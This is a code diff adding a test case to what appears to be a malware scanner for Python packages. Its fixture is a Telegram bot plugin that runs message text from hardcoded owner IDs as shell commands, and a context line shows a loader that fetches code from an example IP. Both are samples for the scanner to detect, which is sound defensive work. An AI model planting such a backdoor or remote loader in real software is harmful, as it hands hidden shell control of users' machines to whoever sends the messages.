@@ -900,3 +900,22 @@ test.each([
     .replace('pickle.loads', 'json.loads');
   expect(await inspect('remote-code', wheel({ 'pkg/a.py': loader('http://203.0.113.7/m', safe) }))).toEqual([]);
 });
+
+test('orders of somebody who stands in the code, taken by whatever client a caller hands over', async () => {
+  const plugin = (owners: string): string =>
+    python(
+      'import subprocess',
+      'from pyrogram import filters',
+      'from pyrogram.handlers import MessageHandler',
+      `OWNERS = ${owners}`,
+      'async def order(client, message):',
+      '    subprocess.run(message.text, shell=True)',
+      'def install(app, sudo):',
+      '    app.add_handler(MessageHandler(order, filters.command("x") & filters.user(OWNERS or sudo)))',
+    );
+
+  expect(await inspect('remote-code', wheel({ 'pkg/a.py': plugin('[5000000000]') }))).toMatchObject([
+    { class: 'malware', score: 10, context: 'call', line: 6 },
+  ]);
+  expect(await inspect('remote-code', wheel({ 'pkg/a.py': plugin('[]') }))).toEqual([]);
+});
